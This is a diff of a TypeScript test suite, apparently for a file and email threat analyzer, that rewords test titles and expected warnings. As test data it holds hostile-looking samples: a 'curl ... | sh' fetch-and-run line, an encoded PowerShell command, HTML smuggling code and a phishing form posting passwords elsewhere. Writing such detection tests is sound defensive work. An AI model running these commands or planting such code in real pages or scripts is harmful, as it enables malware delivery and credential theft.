@@ -11,7 +11,7 @@ import {
 import { buildMail, buildShortcut, PROGRAM, WORDS } from './testing/samples.ts';
 
 describe('pages', () => {
-  it('have what they show judged, not what they hide', async () => {
+  it('have displayed text analyzed, not hidden text', async () => {
     const shown = await analyzeSample(`<html><body><p>${WORDS}</p></body>`, 'a.html');
     expect(modelsAsked(shown)).toEqual(['text_model']);
     const hidden = await analyzeSample(`<html><style>${WORDS}</style><script>${WORDS}</script>`, 'a.html');
@@ -30,7 +30,7 @@ describe('pages', () => {
     );
   });
 
-  it('that ask for a password and send it elsewhere are warned of', async () => {
+  it('that ask for a password and send it elsewhere lead to a warning', async () => {
     const elsewhere = '<html><form action="https://a.example/p.php"><input type="password"></form>';
     expect((await analyzeSample(elsewhere, 'a.html')).findings).toContainEqual(
       expect.objectContaining({ threatType: 'credential_phishing', minimumVerdict: 'warn' }),
@@ -44,22 +44,22 @@ describe('pages', () => {
     ['bank.com', 'https://www.bank.com/login', false],
     ['Click here', 'https://other.example.org/x', false],
     ['bank.com', '/login', false],
-  ])('that show %s and lead to %s', async (shown, href, isOther) => {
+  ])('that display %s and lead to %s', async (shown, href, isOther) => {
     const analysis = await analyzeSample(`<html><a href="${href}"><b>${shown}</b></a>`, 'a.html');
-    expect(signsOf(analysis).includes('a link that shows one domain and leads to another')).toBe(isOther);
+    expect(signsOf(analysis).includes('a link that displays one domain and leads to another')).toBe(isOther);
   });
 
-  it('that put a file together by script are named, and those with scripts alone are not', async () => {
+  it('that assemble a file by script are a finding, those with other scripts are not', async () => {
     const file = 'TVqQ'.repeat(600);
     const smuggling = `<html><script>var b=atob("${file}");var u=URL.createObjectURL(new Blob([b]))</script>`;
     expect(signsOf(await analyzeSample(smuggling, 'a.html'))).toEqual([
-      'a page that puts a file together by script and hands it over as a download',
+      'a page that assembles a file by script and offers it as a download',
     ]);
     const picture = `<html><script>var i="${file}"</script>`;
     expect(signsOf(await analyzeSample(picture, 'a.html'))).toEqual([]);
   });
 
-  it('that are nested without end are read to a point, and it is said', async () => {
+  it('that are nested without end are read in part, and reported as unread', async () => {
     const page = `<html>${'<b>'.repeat(20_000)}`;
     const analysis = await analyzeSample(page, 'a.html', { limits: { timeMs: 60_000 } });
     expect(analysis.unsupported).toContain('too deeply nested');
@@ -67,7 +67,7 @@ describe('pages', () => {
 });
 
 describe('mails', () => {
-  it('have their words, links and attachments judged', async () => {
+  it('have their words, links and attachments analyzed', async () => {
     const mail = buildMail(
       ['MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b'],
       [
@@ -88,30 +88,30 @@ describe('mails', () => {
     expect(modelsAsked(analysis).sort()).toEqual(['text_model', 'url_model']);
     expect(hasKeyOf(analysis, 'domain', 'login.example.com')).toBe(true);
     expect(hasKeyOf(analysis, 'sha256', sha256(PROGRAM))).toBe(true);
-    expect(signsOf(analysis)).toContain('a program whose name ends like that of a document or a picture');
+    expect(signsOf(analysis)).toContain('a program with the extension of a document or a picture');
   });
 
-  it('say where senders disagree', async () => {
+  it('are suspicious if their senders disagree', async () => {
     const other = await analyzeSample(
       buildMail(['Reply-To: x@other.example.org', 'Return-Path: <y@third.example.net>'], WORDS),
       'a.eml',
     );
     expect(other.reasons).toEqual(
       expect.arrayContaining([
-        'answers to it go to another domain than the one it names as its sender',
-        'it was sent from another domain than the one it names as its sender',
+        'replies go to another domain than that of its sender',
+        'it was sent from another domain than that of its sender',
       ]),
     );
     const same = await analyzeSample(buildMail(['Reply-To: x@mail.bank.example'], WORDS), 'a.eml');
     expect(same.reasons.filter((reason) => reason.includes('domain'))).toEqual([]);
   });
 
-  it('within mails are opened, as deep as files are', async () => {
+  it('inside mails are opened as deep as files', async () => {
     const wrap = (mail: string) => buildMail(['Content-Type: message/rfc822'], mail);
     const inner = buildMail([], WORDS);
     expect(modelsAsked(await analyzeSample(wrap(inner), 'a.eml'))).toEqual(['text_model']);
     const deep = await analyzeSample(wrap(wrap(wrap(wrap(wrap(inner))))), 'a.eml');
-    expect(deep.unsupported).toBe('files lie deeper in it than is looked here');
+    expect(deep.unsupported).toBe('it contains files that are nested too deeply to be read');
   });
 
   it.each([
@@ -124,10 +124,10 @@ describe('mails', () => {
       'ten thousand parts',
       `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n'.repeat(10_000)}`,
     ],
-  ])('of %s are said to be unread, at once', async (_, rest) => {
+  ])('of %s are reported as unread, at once', async (_, rest) => {
     const mail = `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n${rest}`;
     const busyMs = await processorMs(async () => {
-      expect((await analyzeSample(mail, 'a.eml')).unsupported).toMatch(/^(?:the mail|it is a mail)/);
+      expect((await analyzeSample(mail, 'a.eml')).unsupported).toMatch(/^(?:the mail|it is a damaged)/);
     });
     expect(busyMs).toBeLessThan(500);
   });
@@ -140,13 +140,13 @@ describe('scripts and shortcuts', () => {
     ['a.vbs', 'Set s=CreateObject("WScript.Shell"): Set h=CreateObject("MSXML2.XMLHTTP")'],
     ['a.ps1', `powershell -enc ${'QUFB'.repeat(20)}`],
     ['a.sh', '#!/bin/sh\ncurl https://a.example.com/x | sh'],
-  ])('that fetch and run are warned of: %s', async (name, script) => {
+  ])('that download and run something lead to a warning: %s', async (name, script) => {
     expect(signsOf(await analyzeSample(script, name))).toEqual([
-      'a script that fetches something and runs it, or hides what it does',
+      'a script that downloads and runs something, or hides what it does',
     ]);
   });
 
-  it('that do neither are named and left unsupported', async () => {
+  it('that do neither are a weak finding and unsupported', async () => {
     const analysis = await analyzeSample('WScript.Echo "hello"', 'a.vbs');
     expect(signsOf(analysis)).toEqual(['a script that runs when opened']);
     const fetching = await analyzeSample('#!/bin/sh\ncurl -O https://a.example.com/x', 'a.sh');
@@ -154,7 +154,7 @@ describe('scripts and shortcuts', () => {
     expect(analysis.unsupported).toBeDefined();
   });
 
-  it('that are shortcuts are blocked for the command they run', async () => {
+  it('that are shortcuts are blocked for their command', async () => {
     const command = 'C:\\Windows\\System32\\cmd.exe /c start https://a.example.com/x';
     const analysis = await analyzeSample(buildShortcut(command), 'a.lnk');
     expect(analysis.findings).toContainEqual(
@@ -170,7 +170,7 @@ describe('scripts and shortcuts', () => {
     ]);
   });
 
-  it('under a name that runs are scripts, and the same text under another is a text', async () => {
+  it('are recognized by a name that runs; under another name the text is a text', async () => {
     const text = toBytes(WORDS);
     expect(modelsAsked(await analyzeSample(text, 'a.js'))).toEqual([]);
     expect(modelsAsked(await analyzeSample(text, 'a.txt'))).toEqual(['text_model']);
